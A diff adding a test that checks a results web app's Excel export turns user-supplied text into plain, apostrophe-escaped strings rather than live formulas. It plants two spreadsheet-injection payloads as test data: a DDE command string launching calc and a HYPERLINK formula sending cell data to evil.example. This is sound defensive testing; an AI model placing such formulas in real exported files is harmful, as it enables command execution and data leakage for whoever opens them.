@@ -333,3 +333,25 @@ def test_unfix_before_publication_with_a_reason_not_after(client, session, case)
     _publish(client, session, case)
     r = client.post(f"/cycles/{cid}/results/unfix", data={"reason": "再改"}, follow_redirects=True)
     assert "尚未公示的结果" in r.get_data(as_text=True) and _rs(session, case).status == "published"
+
+
+def test_user_text_in_the_public_workbook_is_never_a_formula(client, session, case):
+    """An award title and a deliberation reason that look like formulas come out as text."""
+    title = "=cmd|' /C calc'!A0"
+    reason = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
+    case.inputs.awards[0]["title"] = title
+    cid = case.cycle.id
+    _as(client, "group1")
+    client.get(f"/cycles/{cid}/results")
+    r = client.post(f"/cycles/{cid}/results/override",
+                    data={"unit_id": case.units["财务处"].id, "kind": "grade", "value": "优秀", "reason": reason})
+    assert r.status_code == 302
+    _publish(client, session, case)
+    client.post("/logout")
+    wb = load_workbook(io.BytesIO(client.get(f"/cycles/{cid}/results.xlsx").data))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    award = [c for c in cells if isinstance(c.value, str) and "cmd|" in c.value]
+    change = [c for c in cells if isinstance(c.value, str) and c.value.lstrip("'").startswith("=HYPERLINK")]
+    assert [(c.parent.title, c.data_type, c.value) for c in award] == [("突出贡献奖", "s", "'" + title)]
+    assert [(c.parent.title, c.data_type, c.value) for c in change] == [("调整记录", "s", "'" + reason)]
